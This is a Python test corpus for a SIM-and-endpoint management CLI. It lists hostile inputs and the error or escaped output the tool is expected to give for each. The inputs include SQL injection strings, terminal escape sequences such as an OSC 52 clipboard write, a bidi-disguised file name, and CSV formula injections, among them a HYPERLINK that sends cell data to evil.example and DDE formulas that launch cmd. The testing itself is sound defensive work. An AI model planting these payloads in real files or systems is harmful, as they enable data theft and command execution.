    ("groups create empty", ["groups", "create", ""], 2, "group name"),
    ("groups create with a space", ["groups", "create", "a b"], 2, "group name"),
    ("groups create 65 characters", ["groups", "create", "g" * 65], 2, "group name"),
    ("groups create Cyrillic look-alike", ["groups", "create", "gr\u043eup"], 2, "group name"),
    ("groups create SQL", ["groups", "create", "x'; DROP TABLE endpoint_group; --"], 2,
     "group name"),
    ("groups create taken name", ["groups", "create", "{group}"], 2, "group name"),
    ("groups create pool host bits", ["groups", "create", "ok", "--ip-pool", "10.0.0.1/24"], 2,
     "IP pool"),
    ("groups create pool garbage", ["groups", "create", "ok", "--ip-pool", "banana"], 2,
     "IP pool"),
    ("groups create pool with zone", ["groups", "create", "ok", "--ip-pool",
                                      "2001:db8::%eth0/64"], 2, "IP pool", "pool-zone"),
    ("groups create APN escape", ["groups", "create", "ok", "--apn", "\x1b[31m"], 2, "APN"),
    ("groups create description 257", ["groups", "create", "ok", "--description", "d" * 257], 2,
     "description"),
    ("groups edit unknown", ["groups", "edit", "nosuch", "--apn", "x"], 2, "group nosuch"),
    ("groups edit bad new name", ["groups", "edit", "{group}", "--name", "Bad Name"], 2,
     "group name"),
    ("groups edit nothing", ["groups", "edit", "{group}"], 2, "nothing to change"),
    ("groups edit pool leaving IPs out", ["groups", "edit", "{pool_group}", "--ip-pool",
                                          "10.8.0.0/24"], 2, "IP pool"),
    ("groups delete unknown", ["groups", "delete", "nosuch"], 2, "group nosuch"),
    ("groups delete a used group", ["groups", "delete", "{group}"], 1, "still has"),
    # jobs
    ("jobs show unknown", ["jobs", "show", "999"], 2, "job 999"),
    ("jobs show text", ["jobs", "show", "abc"], 2, "JOB"),
    ("jobs resume unknown", ["jobs", "resume", "999"], 2, "job 999"),
    ("jobs show 2**76", ["jobs", "show", "9" * 23], 2, ("JOB", "job"), "int-overflow"),
    ("jobs resume 2**76", ["jobs", "resume", "9" * 23], 2, ("JOB", "job"), "int-overflow"),
    ("jobs skipped 2**76", ["jobs", "skipped", "9" * 23], 2, ("JOB", "job"), "int-overflow"),
    ("jobs list --limit 10**20", ["jobs", "list", "--limit", "9" * 20], 2, "--limit",
     "int-overflow"),
    ("show --history 10**20", ["endpoints", "show", "{active}", "--history", "9" * 20], 2,
     "--history", "int-overflow"),
    # files
    ("sims import missing file", ["sims", "import", "/nonexistent.csv"], 2, "FILE"),
    ("sims import a folder", ["sims", "import", "{tmp}"], 2, "FILE"),
    ("sims import --group without --as-endpoints", ["sims", "import", "{csv_ok}", "--group",
                                                    "{group}"], 2, "--as-endpoints"),
    ("sims import --group unknown", ["sims", "import", "{csv_ok}", "--as-endpoints", "--group",
                                     "nosuch"], 2, "group nosuch"),
    ("sims list --status bogus", ["sims", "list", "--status", "bogus"], 2, "state"),
    ("network ingest missing file", ["network", "ingest", "/nonexistent.jsonl"], 2, "FILE"),
    ("--db is a folder", ["--db", "{tmp}", "endpoints", "list"], 2, "database"),
    ("--db is not a database", ["--db", "{not_a_db}", "endpoints", "list"], 2, "database"),
    # usage
    ("unknown command", ["endpoints", "frobnicate"], 2, "frobnicate"),
    ("unknown option", ["endpoints", "create", "--colour", "red"], 2, "--colour"),
    ("reinstate without --ticket", ["support", "reinstate", "{terminated}"], 2, "--ticket"),
    ("demo --endpoints 0", ["demo", "--endpoints", "0", "--no-tui"], 2, "--endpoints"),
    ("serve --port 70000", ["serve", "--port", "70000"], 2, "--port"),
    # permissions (exit 3)
    ("--read-only edit", ["--read-only", "endpoints", "edit", "{active}", "--name", "x"], 3,
     "read-only"),
    ("admin reinstates (support only)", ["support", "reinstate", "{terminated}", "--ticket",
                                         "T-1"], 3, "support"),
    ("viewer suspends", ["endpoints", "suspend", "{active}"], 3, "viewer", None,
     {"user": "vic"}),
    ("viewer creates a group", ["groups", "create", "new-group"], 3, "viewer", None,
     {"user": "vic"}),
    ("unknown OS user", ["endpoints", "list"], 3, "users add mallory", None,
     {"user": "mallory"}),
]


CLI_CASES: list[dict[str, Any]] = [
    {
        "id": item[0],
        "argv": item[1],
        "exit": item[2],
        "needles": item[3] if isinstance(item[3], tuple) else (item[3],),
        "bug": item[4] if len(item) > 4 else None,
        "user": (item[5] if len(item) > 5 else {}).get("user", "admin"),
    }
    for item in _CLI
]


# ---------------------------------------------------------------------------- CSV files

#: A SIM the CSV tests' database already holds (duplicates against the database).
EXISTING_ICCID = make_iccid("894450099900000001")
EXISTING_IMSI = "001019990000001"
EXISTING_EID = make_eid("890490320000000000000000009999")


def iccid(i: int) -> str:
    """A valid ICCID no database of these tests holds."""
    return make_iccid(f"8944501{i:012d}")


def imsi(i: int) -> str:
    return f"00102{i:010d}"


def eid(i: int) -> str:
    return make_eid(f"89049032{i:022d}")


Builder = Callable[[Path], Path]
CSV_BUILDERS: dict[str, Builder] = {}


def builder(fn: Callable[[], bytes]) -> Callable[[], bytes]:
    """Register a file's content under the function's name."""

    def build(folder: Path) -> Path:
        path = folder / f"{fn.__name__}.csv"
        path.write_bytes(fn())
        return path

    CSV_BUILDERS[fn.__name__] = build
    return fn


def _lines(*rows: str, end: str = "\n") -> bytes:
    return (end.join(rows) + end).encode()


@builder
def bom_crlf() -> bytes:
    return codecs.BOM_UTF8 + _lines("iccid,imsi,eid", f"{iccid(1)},{imsi(1)},{eid(1)}",
                                     f"{iccid(2)},{imsi(2)},", end="\r\n")


@builder
def bom_crlf_semicolon_f_padding() -> bytes:
    return codecs.BOM_UTF8 + _lines("ICCID;IMSIs;EID", f"{iccid(3)}F;{imsi(3)}|{imsi(4)};",
                                     f"{iccid(4)[:4]} {iccid(4)[4:]};{imsi(5)};", end="\r\n")


@builder
def tab_separated() -> bytes:
    return _lines("iccid\timsi", f"{iccid(5)}\t{imsi(6)}")


@builder
def old_mac_line_ends() -> bytes:
    return _lines("iccid,imsi", f"{iccid(6)},{imsi(7)}", end="\r")


@builder
def latin1() -> bytes:
    return f"iccid,imsi,name\n{iccid(7)},{imsi(8)},Caf\u00e9\n".encode("latin-1")


@builder
def windows1252_quotes() -> bytes:
    return f"iccid,imsi\n\u201c{iccid(8)}\u201d,{imsi(9)}\n".encode("cp1252")


@builder
def utf16_with_bom() -> bytes:
    return f"iccid,imsi\n{iccid(9)},{imsi(10)}\n".encode("utf-16")


@builder
def utf16_le_without_bom() -> bytes:
    return f"iccid,imsi\n{iccid(9)},{imsi(10)}\n".encode("utf-16-le")


@builder
def encoded_surrogate() -> bytes:
    return b"iccid,imsi\n" + iccid(10).encode() + b"\xed\xa0\x80," + imsi(11).encode() + b"\n"


@builder
def scientific_iccid() -> bytes:
    return _lines("iccid,imsi", f"8.94450E+18,{imsi(12)}")


@builder
def iccid_missing_check_digit() -> bytes:
    return _lines("iccid,imsi", f"{ICCID_OK[:-1]},{imsi(13)}")


@builder
def iccid_with_letters() -> bytes:
    return _lines("iccid,imsi", f"89ABCDEF0123456789,{imsi(14)}")


@builder
def iccid_fullwidth() -> bytes:
    return _lines("iccid,imsi", f"{_fullwidth(iccid(11))},{imsi(15)}")


@builder
def iccid_formula() -> bytes:
    return _lines("iccid,imsi", f'"=HYPERLINK(""http://x"")",{imsi(16)}')


@builder
def iccid_empty_cell() -> bytes:
    return _lines("iccid,imsi", f",{imsi(17)}")


@builder
def iccid_nul() -> bytes:
    return _lines("iccid,imsi", f"{iccid(12)}\x00,{imsi(18)}")


@builder
def duplicate_iccid_in_file() -> bytes:
    return _lines("iccid,imsi", f"{iccid(13)},{imsi(19)}", f"{iccid(13)},{imsi(20)}")


@builder
def duplicate_iccid_after_normalising() -> bytes:
    spaced = f"{iccid(14)[:6]} {iccid(14)[6:]}F"
    return _lines("iccid,imsi", f"{iccid(14)},{imsi(21)}", f"{spaced},{imsi(22)}")


@builder
def duplicate_iccid_against_database() -> bytes:
    return _lines("iccid,imsi", f"{iccid(15)},{imsi(23)}", f"{EXISTING_ICCID},{imsi(24)}")


@builder
def duplicate_imsi_in_file() -> bytes:
    return _lines("iccid,imsi", f"{iccid(16)},{imsi(25)}", f"{iccid(17)},{imsi(25)}")


@builder
def duplicate_imsi_against_database() -> bytes:
    return _lines("iccid,imsi", f"{iccid(18)},{EXISTING_IMSI}")


@builder
def duplicate_eid_in_file() -> bytes:
    return _lines("iccid,imsi,eid", f"{iccid(19)},{imsi(26)},{eid(5)}",
                  f"{iccid(20)},{imsi(27)},{eid(5)}")


@builder
def duplicate_eid_against_database() -> bytes:
    return _lines("iccid,imsi,eid", f"{iccid(21)},{imsi(28)},{EXISTING_EID}")


@builder
def bad_eid() -> bytes:
    return _lines("iccid,imsi,eid", f"{iccid(22)},{imsi(29)},{EID_OK[:30]}00")


@builder
def imsi_too_short() -> bytes:
    return _lines("iccid,imsi", f"{iccid(23)},12345")


@builder
def imsi_list_with_a_bad_one() -> bytes:
    return _lines("iccid;imsi", f"{iccid(24)};{imsi(30)}|123|{imsi(31)}")


@builder
def imsi_list_semicolons_in_comma_file() -> bytes:
    return _lines("iccid,imsi", f'{iccid(25)},"{imsi(32)};00101abc"')


@builder
def seventeen_imsis() -> bytes:
    return _lines("iccid,imsi", f'{iccid(26)},"{";".join(imsi(100 + i) for i in range(17))}"')


@builder
def missing_iccid_column() -> bytes:
    return _lines("imsi,eid", f"{imsi(33)},")


@builder
def missing_imsi_column() -> bytes:
    return _lines("iccid,eid", f"{iccid(27)},")


@builder
def unknown_column() -> bytes:
    return _lines("iccid,imsi,colour", f"{iccid(28)},{imsi(34)},red")


@builder
def header_with_terminal_escape() -> bytes:
    return _lines("iccid,imsi,\x1b[2J\x1b[31mcolour", f"{iccid(43)},{imsi(47)},red")


@builder
def doubled_column() -> bytes:
    return _lines("iccid,imsi,ICCID", f"{iccid(29)},{imsi(35)},{iccid(30)}")


@builder
def blank_header_cells() -> bytes:
    return _lines("iccid,,imsi", f"{iccid(31)},,{imsi(36)}")


@builder
def name_column_without_as_endpoints() -> bytes:
    return _lines("iccid,imsi,name", f"{iccid(32)},{imsi(37)},truck")


@builder
def name_with_control_character() -> bytes:
    return _lines("iccid,imsi,name", f"{iccid(33)},{imsi(38)},truck\x1b[2J")


@builder
def bad_tags() -> bytes:
    return _lines("iccid,imsi,tags", f"{iccid(34)},{imsi(39)},fleet|bad!")


@builder
def header_only() -> bytes:
    return _lines("iccid,imsi,eid")


@builder
def empty_file() -> bytes:
    return b""


@builder
def blank_lines_only() -> bytes:
    return b"  \n\n\t\r\n"


@builder
def nul_bytes_only() -> bytes:
    return b"\x00" * 100


@builder
def binary_garbage() -> bytes:
    return bytes(range(256)) * 8


@builder
def zip_archive() -> bytes:
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(128, 256))


@builder
def fifty_megabyte_line() -> bytes:
    return b"iccid,imsi\n" + b"8" * (50 * 1024 * 1024) + b"," + imsi(40).encode() + b"\n"


@builder
def huge_header_cell() -> bytes:
    return b"i" * (100 * 1024) + b"\n" + iccid(35).encode() + b"\n"


@builder
def oversized_imsi_cell() -> bytes:
    return _lines("iccid,imsi", f"{iccid(36)},{'0' * (64 * 1024 + 1)}")


@builder
def too_many_cells() -> bytes:
    return _lines("iccid,imsi", f"{iccid(37)},{imsi(41)},extra")


@builder
def too_few_cells() -> bytes:
    return _lines("iccid,imsi,eid", f"{iccid(38)}")


@builder
def quote_left_open() -> bytes:
    return _lines("iccid,imsi", f'"{iccid(39)},{imsi(42)}', f"{iccid(40)},{imsi(43)}")


@builder
def one_good_one_bad_row() -> bytes:
    return _lines("iccid,imsi", f"{iccid(41)},{imsi(44)}", f"{BAD_ICCID},{imsi(45)}")


@builder
def sql_in_cells() -> bytes:
    return _lines("iccid,imsi", f"{iccid(42)}'); DROP TABLE sim; --,{imsi(46)}")


# (id = builder, expectation): "ok" with how many SIMs; "file" = InputError (NotFound) for
# the whole file, "rows" = a report of row errors; needle = what the message must say
# (first error message for rows); field = what a row message must start with.
CSV_CASES: list[dict[str, Any]] = [
    {"build": "bom_crlf", "ok": 2},
    {"build": "bom_crlf_semicolon_f_padding", "ok": 2},
    {"build": "tab_separated", "ok": 1},
    {"build": "old_mac_line_ends", "ok": 1},
    {"build": "latin1", "error": "file", "needle": "UTF-8", "options": {"as_endpoints": True}},
    {"build": "windows1252_quotes", "error": "file", "needle": "UTF-8"},
    {"build": "utf16_with_bom", "error": "file", "needle": "UTF-8"},
    {"build": "utf16_le_without_bom", "error": "file", "needle": "column",
     "bug": "csv-header-echo"},
    {"build": "encoded_surrogate", "error": "file", "needle": "UTF-8"},
    {"build": "scientific_iccid", "error": "rows", "field": "ICCID", "needle": "scientific"},
    {"build": "iccid_missing_check_digit", "error": "rows", "field": "ICCID",
     "needle": "check digit"},
    {"build": "iccid_with_letters", "error": "rows", "field": "ICCID", "needle": "character"},
    {"build": "iccid_fullwidth", "error": "rows", "field": "ICCID", "needle": "character"},
    {"build": "iccid_formula", "error": "rows", "field": "ICCID", "needle": "'='"},
    {"build": "iccid_empty_cell", "error": "rows", "field": "ICCID", "needle": "empty"},
    {"build": "iccid_nul", "error": "rows", "field": "ICCID", "needle": "U+0000"},
    {"build": "duplicate_iccid_in_file", "error": "rows", "field": "ICCID",
     "needle": "also on row 2"},
    {"build": "duplicate_iccid_after_normalising", "error": "rows", "field": "ICCID",
     "needle": "also on row 2"},
    {"build": "duplicate_iccid_against_database", "error": "rows", "field": "ICCID",
     "needle": "already in the inventory"},
    {"build": "duplicate_imsi_in_file", "error": "rows", "field": "IMSI",
     "needle": "also on row 2"},
    {"build": "duplicate_imsi_against_database", "error": "rows", "field": "IMSI",
     "needle": "already used"},
    {"build": "duplicate_eid_in_file", "error": "rows", "field": "EID",
     "needle": "also on row 2"},
    {"build": "duplicate_eid_against_database", "error": "rows", "field": "EID",
     "needle": "already used"},
    {"build": "bad_eid", "error": "rows", "field": "EID", "needle": "check digits"},
    {"build": "imsi_too_short", "error": "rows", "field": "IMSI", "needle": "digits"},
    {"build": "imsi_list_with_a_bad_one", "error": "rows", "field": "IMSI", "needle": "IMSI 123"},
    {"build": "imsi_list_semicolons_in_comma_file", "error": "rows", "field": "IMSI",
     "needle": "character"},
    {"build": "seventeen_imsis", "error": "rows", "field": "IMSI", "needle": "17 IMSIs"},
    {"build": "missing_iccid_column", "error": "file", "needle": "iccid column"},
    {"build": "missing_imsi_column", "error": "file", "needle": "imsi column"},
    {"build": "unknown_column", "error": "file", "needle": "colour"},
    {"build": "header_with_terminal_escape", "error": "file", "needle": "unknown column",
     "bug": "csv-header-echo"},
    {"build": "doubled_column", "error": "file", "needle": "iccid appears twice"},
    {"build": "blank_header_cells", "error": "file", "needle": "column 2 (no name)"},
    {"build": "name_column_without_as_endpoints", "error": "file", "needle": "--as-endpoints"},
    {"build": "name_with_control_character", "error": "rows", "field": "name",
     "needle": "control character", "options": {"as_endpoints": True}},
    {"build": "bad_tags", "error": "rows", "field": "tag", "needle": "'!'",
     "options": {"as_endpoints": True}},
    {"build": "header_only", "error": "file", "needle": "no SIM rows"},
    {"build": "empty_file", "error": "file", "needle": "is empty"},
    {"build": "blank_lines_only", "error": "file", "needle": "is empty"},
    {"build": "nul_bytes_only", "error": "file", "needle": "unknown column",
     "bug": "csv-header-echo"},
    {"build": "binary_garbage", "error": "file", "needle": "UTF-8"},
    {"build": "zip_archive", "error": "file", "needle": "UTF-8"},
    {"build": "fifty_megabyte_line", "error": "rows", "field": "ICCID",
     "needle": "characters long"},
    {"build": "huge_header_cell", "error": "file", "needle": "header cell 1"},
    {"build": "oversized_imsi_cell", "error": "rows", "field": "IMSI",
     "needle": "characters long"},
    {"build": "too_many_cells", "error": "rows", "needle": "has 3 cells"},
    {"build": "too_few_cells", "error": "rows", "needle": "has 1 cells"},
    {"build": "quote_left_open", "error": "rows", "needle": "has 1 cells"},
    {"build": "one_good_one_bad_row", "error": "rows", "field": "ICCID", "needle": "check digit"},
    {"build": "sql_in_cells", "error": "rows", "field": "ICCID", "needle": "character"},
    {"build": "bom_crlf", "error": "file", "needle": "group nosuch",
     "options": {"as_endpoints": True, "group": "nosuch"}, "id": "bom_crlf --group nosuch"},
    {"build": "bom_crlf", "error": "file", "needle": "--as-endpoints",
     "options": {"group": "vantiq-connect-eu"}, "id": "bom_crlf --group without endpoints"},
]
for _case in CSV_CASES:
    _case.setdefault("id", _case["build"])
    _case.setdefault("options", {})
    _case.setdefault("bug", None)
    assert _case["build"] in CSV_BUILDERS, _case["build"]


# ------------------------------------------------------------------------------ search

#: The fleet searched: names and references that literally hold the hostile strings, and
#: near-misses that a pattern (LIKE, GLOB, FTS syntax) would also match.
SEARCH_GROUPS = ("vantiq-connect-eu", "a_b", "axb")
SEARCH_FLEET: list[dict[str, Any]] = [
    {"name": "100% uptime", "reference": "REF-%", "sim": True},
    {"name": "100 percent", "reference": "REF-pct", "sim": True},
    {"name": "a_b sensor", "reference": "ref_1", "group": "a_b", "tags": ["_", "a_b"],
     "sim": True},
    {"name": "axb sensor", "reference": "refx1", "group": "axb", "tags": ["axb"], "sim": True},
    {"name": "it's here", "reference": "R'1", "sim": True},
    {"name": "its here", "reference": "R1"},
    {"name": "x[a-z]y", "reference": "[ref]", "tags": ["x:y"], "sim": True},
    {"name": "xay", "reference": "ref-a"},
    {"name": "st*r", "reference": "R*", "sim": True, "static_ip": "10.1.2.3"},
    {"name": "star", "reference": "Rx", "static_ip": "10.1.2.30"},
    {"name": "who?", "reference": "q?"},
    {"name": "whom", "reference": "qq", "sim": True},
    {"name": "back\\slash", "reference": "C:\\path"},
    {"name": "backslash", "reference": "C:path"},
    {"name": 'say "hi"', "reference": '"quoted"', "sim": True},
    {"name": "say hi", "reference": "quoted"},
    {"name": "' OR 1=1 --", "reference": "sql-1", "sim": True},
    {"name": "OR 1 1", "reference": "sql-2"},
    {"name": '"); DROP TABLE endpoint; --', "reference": "sql-3", "sim": True},
    {"name": "NEAR(a b)", "reference": "fts-1"},
    {"name": "near a b", "reference": "fts-2", "imei_lock": IMEI_OK},
    {"name": "a AND b", "reference": "fts-3"},
    {"name": "caret^up", "reference": "^ref", "sim": True},
    {"name": "name:x*", "reference": "fts-4"},
    {"name": "namex", "reference": "fts-5", "sim": True},
    {"name": "Жук-7", "reference": "Москва", "sim": True},
    {"name": "مرحبا بالعالم", "reference": "عربي"},
    {"name": "名前テスト", "reference": "参照", "sim": True},
    {"name": "🚚 truck", "reference": "🚚"},
    {"name": "state: idle", "reference": "tok-1"},
    {"name": "group:%", "reference": "tok-2", "sim": True},
    {"name": "tag:_", "reference": "tok-3"},
    {"name": "-", "reference": "dash"},
    {"name": "x" * 128, "reference": "long"},
    {"name": "plain", "reference": "", "sim": True},
    {"name": "", "reference": ""},
]


def _search(q: str, bug: str | None = None, *, degenerate: bool = False) -> dict[str, Any]:
    return {"q": q, "bug": bug, "degenerate": degenerate}


#: Hostile search strings; each must find exactly what a literal reading finds.
#: ``degenerate``: a prefix token whose value normalises to nothing; either reading
#: (everything with that field, or nothing) is accepted, an exception is not.
SEARCH_CASES: list[dict[str, Any]] = [
    _search("%", "search-short-glob"),
    _search("_", "search-short-glob"),
    _search("*", "search-short-glob"),
    _search("?", "search-short-glob"),
    _search("[a-z]"),
    _search("\\", "search-short-glob"),
    _search("'", "search-short-glob"),
    _search('"'),
    _search("' OR 1=1 --", "search-short-glob"),
    _search('"); DROP TABLE endpoint; --'),
    _search("NEAR(a b)", "search-short-glob"),
    _search("a AND b", "search-short-glob"),
    _search("^", "search-short-glob"),
    _search("name:x*", "search-short-glob"),
    _search("\x01", "search-short-glob"),
    _search("\x1b[31m"),
    _search("\x00", "search-nul"),
    _search("ab\x00cd", "search-nul"),
    _search("a\x00", "search-nul"),
    _search("x" * 10_000),
    _search("x" * 100),
    _search("Жук"),
    _search("жук"),
    _search("Москва"),
    _search("مرحبا"),
    _search("名前", "search-short-glob"),
    _search("名前テスト"),
    _search("🚚", "search-short-glob"),
    _search("🚚 truck", "search-short-glob"),
    _search("-", "search-short-glob"),
    _search("state:"),
    _search("-state:"),
    _search("group:%"),
    _search("tag:_"),
    _search("tag:a_b"),
    _search("-tag:_"),
    _search("group:a_b"),
    _search("group:none"),
    _search("100%"),
    _search("a_b"),
    _search("it's"),
    _search("x[a-z]y"),
    _search("st*r"),
    _search("back\\slash"),
    _search("\\%", "search-short-glob"),
    _search("%_%"),
    _search("''", "search-short-glob"),
    _search("*:*"),
    _search("OR", "search-short-glob"),
    _search("NOT"),
    _search("x:y"),
    _search("ref:R*", "search-short-glob"),
    _search("ref:%", "search-short-glob"),
    _search("name:%", "search-short-glob"),
    _search("iccid:%"),
    _search("iccid:8944"),
    _search("8944"),
    _search("89-44"),
    _search("ip:%"),
    _search("ip:10.1.2.3"),
    _search("imei:" + IMEI_OK[:6]),
    _search("imsi:%"),
    _search("imsi:-", "search-empty-prefix", degenerate=True),
    _search("eid:-", "search-empty-prefix", degenerate=True),
    _search("imei:/", "search-empty-prefix", degenerate=True),
    _search('ip:" "', "search-empty-prefix", degenerate=True),
    _search("ip:\U0010ffff", "search-max-codepoint"),
    _search('"a b"'),
    _search('" OR "'),
]

#: Search strings holding an invalid token: refused (exit 2) naming the field.
INVALID_SEARCH: list[tuple[str, str, str | None]] = [
    ("state:bogus", "state", None),
    ("-state:bogus", "state", None),
    ("state:%", "state", None),
    ("state:' OR 1=1 --", "state", None),
    ("plain state:bogus", "state", None),
    ("state:\x00", "state", "state-echo"),
    ("state:\x1b[2J", "state", "state-echo"),
]


# --------------------------------------------------------------------------- stored text

#: Text that reached storage (another front end, an older version, a direct write to a
#: team's PostgreSQL, a file name, a network event) and is printed later, to whoever looks:
#: (id, text, what it does printed as it is). core/sanitize.py shows every control
#: character as an escape, the console never reads it as markup, and a CSV cell starting
#: with a formula character is quoted. ``shown`` is what an operator must see instead.
STORED_TEXT: list[dict[str, str]] = [
    {"id": "osc52-clipboard", "text": "batch \x1b]52;c;ZXZpbA==\x07.csv",
     "does": "OSC 52: sets the reader's clipboard", "shown": "\\e]52;c;ZXZpbA==\\x07"},
    {"id": "osc0-title", "text": "\x1b]0;owned\x07 title",
     "does": "OSC 0: sets the terminal's window title", "shown": "\\e]0;owned\\x07"},
    {"id": "csi-clear", "text": "\x1b[2J\x1b[H cleared",
     "does": "CSI: clears the screen, moves the cursor home", "shown": "\\e[2J\\e[H"},
    {"id": "c1-csi", "text": "c1 \x9b31m red",
     "does": "the C1 CSI: an escape sequence without ESC", "shown": "\\x9b31m"},
    {"id": "bidi-override", "text": "invoice \u202efdp.exe",
     "does": "RLO: the text reads backwards (exe.pdf)", "shown": "\\u202efdp.exe"},
    {"id": "markup-close", "text": "Truck [/] 7",
     "does": "console markup: a closing tag with nothing open (MarkupError)",
     "shown": "Truck [/] 7"},
    {"id": "markup-action", "text": "[@click=app.quit]quit[/]",
     "does": "console markup: a clickable action", "shown": "[@click=app.quit]"},
    {"id": "markup-style", "text": "[bold red]ALERT",
     "does": "console markup: restyles what follows", "shown": "[bold red]ALERT"},
    {"id": "formula-hyperlink", "text": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
     "does": "a spreadsheet formula sending a cell away", "shown": "=HYPERLINK("},
    {"id": "formula-dde", "text": "+cmd|'/C calc'!A0",
     "does": "a DDE formula starting a program", "shown": "+cmd|'/C calc'!A0"},
    {"id": "formula-at", "text": "@SUM(1+1)*cmd|' /C calc'!A0",
     "does": "a formula after @", "shown": "@SUM(1+1)"},
    {"id": "formula-minus", "text": "-1+1+cmd|' /C calc'!A0",
     "does": "a formula after -", "shown": "-1+1"},
]


def all_cases() -> dict[str, list[Any]]:
    """Every case of the corpus, by category."""
    return {
        "identifiers and settings": IDENTIFIER_CASES,
        "CLI arguments": CLI_CASES,
        "CSV files": CSV_CASES,
        "search strings": SEARCH_CASES,
        "invalid search tokens": INVALID_SEARCH,
        "stored text": STORED_TEXT,
    }
